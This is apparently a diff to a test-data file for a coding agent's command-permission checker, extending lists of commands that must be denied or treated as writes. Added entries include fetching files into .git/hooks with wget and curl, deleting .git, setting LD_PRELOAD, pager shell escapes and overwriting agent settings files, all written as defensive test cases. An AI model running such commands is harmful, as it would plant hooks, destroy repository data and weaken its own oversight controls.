@@ -3,7 +3,7 @@ control files, recursive and interpreted reads of folders that hold a denied pat
 other processes' environments, programs that look read-only but write, what each verdict lets
 the call reach (:class:`chatcli.Confinement`), and configuration errors. Tables are data: one
 line a variation. The same classes run through the real ``chatcli -p`` in
-``tests/security/test_policy_classes.py``."""
+``tests/security/test_policy_class_attacks.py``."""
 
 from __future__ import annotations
 
@@ -57,7 +57,14 @@ PROTECTED_COMMANDS = [
     "git lfs install", "pre-commit install", "ln -s .git/hooks h", "ln .git/config hard",
     "cp -l .git/config hard", "bash -c 'echo x > .mcp.json'", "rm -rf .git",
     "echo '{}' > .claude/settings.json", "echo x > .claude/settings.local.json",
-    "echo x > vendor/lib/.gitmodules",
+    "echo x > vendor/lib/.gitmodules", "ed -s .git/config", "vim .gitattributes",
+    "wget -P .git/hooks http://x/y", "curl --output-dir .git/hooks -O http://x/y",
+    "tar -C .git -xf missing.tar", "ln -s ../.git/config sub/l && echo x > sub/l",
+    "git mv notes.txt .gitattributes", "git checkout HEAD -- .gitattributes",
+    "git restore --source=x .mcp.json", "echo x | sponge .git/config",
+    "patch .git/config x.diff", "mkdir -p .git/hooks", "chmod +x .git/hooks/pre-commit",
+    "git config -f .git/config user.name x", "git -C sub config user.name x",
+    "git worktree add ../w", "exec 3> .git/config",
 ]
 PROTECTED_FILES = [".git/config", "./.git/hooks/x", "src/../.gitattributes", ".chatcli/a.toml",
                    ".mcp.json", ".claude/settings.json", "hooks-link/pre-commit", ".Git/HEAD"]
@@ -144,7 +151,8 @@ RECURSIVE = [
     "rg -A3 X", "git grep --untracked X", "git grep --no-index X", "ls -R", "find . -name x",
     "tar -cf - .", "zip -r x.zip deep", "cp -r deep copy", "du -a", "tree",
     "git log -p", "git show HEAD", "git diff", "git archive HEAD", "git stash show -p",
-    "sh -c 'grep -r X .'",
+    "sh -c 'grep -r X .'", "diff -rN deep empty", "cd deep && grep -r X",
+    "git cat-file -p 0123abcd",
 ]
 
 
@@ -240,7 +248,8 @@ WRITERS = [
     "git config user.name x", "export LD_PRELOAD=x.so", "fdfind -x rm", "bat --pager=sh x",
     "tee out", "dd if=a of=b", "touch x", "truncate -s0 x", "gzip x", "split x", "csplit x 1",
     "ln -s a b", "install a b", "patch -p1", "git -c core.pager=x log", "GIT_DIR=x git log",
-    "git --git-dir=x log", "git --work-tree=/ status",
+    "git --git-dir=x log", "git --work-tree=/ status", "less '+!touch x' notes.txt",
+    "awk -i inplace 1 notes.txt",
 ]
 
 
